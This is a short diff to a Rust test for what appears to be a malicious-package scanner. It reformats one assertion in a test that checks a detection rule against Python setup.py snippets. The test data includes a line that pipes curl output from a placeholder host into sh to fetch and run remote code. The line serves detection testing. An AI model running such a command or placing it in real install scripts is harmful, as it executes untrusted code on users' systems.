@@ -58,6 +58,13 @@ mod tests {
         let code = "import os\nos.system('curl http://x.invalid/a | sh')\n";
         assert!(max_severity("p/setup.py", code, "WH101") > 0.0);
         assert_eq!(max_severity("p/mod.py", code, "WH101"), 0.0);
-        assert_eq!(max_severity("p/setup.py", "from setuptools import setup\nsetup(name='x')\n", "WH101"), 0.0);
+        assert_eq!(
+            max_severity(
+                "p/setup.py",
+                "from setuptools import setup\nsetup(name='x')\n",
+                "WH101"
+            ),
+            0.0
+        );
     }
 }
